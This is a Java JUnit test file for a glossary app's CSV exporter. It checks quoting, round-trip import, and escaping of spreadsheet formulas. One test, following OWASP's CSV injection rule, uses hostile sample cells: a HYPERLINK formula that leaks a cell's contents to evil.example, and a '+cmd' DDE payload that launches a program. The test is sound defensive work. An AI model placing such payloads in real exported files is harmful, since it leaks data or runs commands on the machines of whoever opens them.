package dev.glossary.exchange;

import org.junit.jupiter.api.Test;

import dev.glossary.deck.Level;
import dev.glossary.deck.Term;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;

import java.io.IOException;
import java.io.StringReader;
import java.io.StringWriter;
import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;

class CsvExporterTest {

    @Test
    void writesAHeaderRowThenOneQuotedWhereNeededRowPerTerm() throws IOException {
        StringWriter out = new StringWriter();
        new CsvExporter().write(SampleDeck.validated(List.of(SampleDeck.TCP, SampleDeck.UDP, SampleDeck.CAFE)), out);

        assertThat(out.toString()).isEqualTo(String.join("\r\n",
                "term,definition,level,aliases,tags,example,category,id,related,same",
                "TCP,\"Transmission Control Protocol, a reliable byte stream.\nStarts with a handshake.\",beginner,"
                        + "Transmission Control Protocol,networking;protocols::transport,\"SYN, SYN-ACK, ACK\","
                        + "networking,tcp,udp,",
                "UDP,\"Datagrams: no \"\"delivery\"\" promise, no order (&amp; stays as typed).\",intermediate,,"
                        + "networking,,networking,udp,tcp,",
                "Café,\"1. Coffee.\n- Not a list.\n\n> Not a quote either.\",intermediate,Caffè;Kaffee,drinks,,,"
                        + "cafe,,",
                ""));
    }

    /** The hostile review's F5: OWASP's CSV injection rule, on every cell. */
    @Test
    void aCellASpreadsheetWouldRunAsAFormulaStartsWithAQuote() throws IOException {
        Term formula = new Term("formula", "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")", Level.BEGINNER,
                "@SUM(1+1)", "+cmd|' /C calc'!A0", List.of("-2+3"), List.of(), "\tTab first", List.of("'quoted"));
        StringWriter out = new StringWriter();
        new CsvExporter().write(SampleDeck.validated(List.of(formula)), out);
        List<String> cells = CSVParser.parse(out.toString(), CSVFormat.RFC4180).getRecords().get(1).toList();
        assertThat(cells).containsExactly("'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")",
                "'+cmd|' /C calc'!A0", "beginner", "'-2+3", "''quoted", "Tab first", "'@SUM(1+1)", "formula", "", "");
    }

    @Test
    void aTabOrCarriageReturnFirstIsQuotedToo() {
        assertThat(SpreadsheetCells.escape("\tx")).isEqualTo("'\tx");
        assertThat(SpreadsheetCells.escape("\rx")).isEqualTo("'\rx");
        assertThat(SpreadsheetCells.escape("plain")).isEqualTo("plain");
        assertThat(SpreadsheetCells.unescape("'\tx")).isEqualTo("\tx");
    }

    @Test
    void quotedCellsReadBackExactlyAndAQuoteBeforeOrdinaryTextIsKept() throws IOException {
        Term formula = new Term("formula", "=1+1", Level.BEGINNER, "-", "@home", List.of("'=x", "'-'"), List.of(),
                "+44 20", List.of("'plain"));
        StringWriter out = new StringWriter();
        new CsvExporter().write(SampleDeck.validated(List.of(formula)), out);
        ImportResult back = CsvImporter.csv().read(new StringReader(out.toString()), ImportOptions.defaults());
        assertThat(back.terms()).containsExactly(formula);
        ImportResult handWritten = CsvImporter.csv().read(new StringReader("term,definition\n'ok,'-v' shows the version\n"),
                ImportOptions.defaults());
        assertThat(handWritten.terms().get(0).name()).isEqualTo("'ok");
        assertThat(handWritten.terms().get(0).definition()).isEqualTo("-v' shows the version");
    }
}
